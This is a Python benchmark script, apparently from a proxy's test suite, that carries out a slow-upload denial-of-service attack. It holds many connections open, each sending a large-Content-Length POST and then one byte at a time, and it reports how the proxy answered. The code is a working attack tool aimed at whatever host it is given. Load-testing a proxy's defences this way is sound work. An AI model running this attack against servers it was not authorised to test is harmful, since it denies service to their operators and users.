#!/usr/bin/python3
"""The slow-upload attack of bench/http-proxy.sh part d.

    slow-upload.py HOST:PORT SECONDS [--connections 60] [--length 1000000] [--every 1.0]

Keeps CONNECTIONS connections each sending `POST /upload` with `Content-Length: LENGTH`, then
one byte of the body every EVERY seconds; a connection the proxy answers or closes is opened
again at once, as an attacker would. Stops after SECONDS and prints one line:
"answers STATUS:COUNT ... closed N" (what the proxy did to the attackers).
"""

import argparse
import asyncio
import collections


async def attacker(host, port, args, stop, seen):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            seen["refused"] += 1
            await asyncio.sleep(0.1)
            continue
        head = f"POST /upload HTTP/1.1\r\nHost: bench\r\nContent-Length: {args.length}\r\n\r\n"
        writer.write(head.encode())
        answer = asyncio.ensure_future(reader.readline())
        try:
            while not stop.is_set() and not answer.done():
                done, _ = await asyncio.wait([answer], timeout=args.every)
                if not done:
                    writer.write(b"x")
                    await writer.drain()
            if answer.done():
                line = answer.result().split()
                seen[line[1].decode() if len(line) > 1 else "closed"] += 1
        except (OSError, ConnectionError):
            seen["closed"] += 1
        finally:
            answer.cancel()
            writer.close()


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--connections", type=int, default=60)
    parser.add_argument("--length", type=int, default=1_000_000)
    parser.add_argument("--every", type=float, default=1.0)
    args = parser.parse_args()
    host, port = args.address.rsplit(":", 1)
    stop = asyncio.Event()
    seen = collections.Counter()
    tasks = [
        asyncio.ensure_future(attacker(host, int(port), args, stop, seen))
        for _ in range(args.connections)
    ]
    await asyncio.sleep(args.seconds)
    stop.set()
    await asyncio.wait(tasks, timeout=args.every + 1)
    closed = seen.pop("closed", 0)
    answers = " ".join(f"{status}:{count}" for status, count in sorted(seen.items()))
    print(f"answers {answers or '-'} closed {closed}")


if __name__ == "__main__":
    asyncio.run(main())
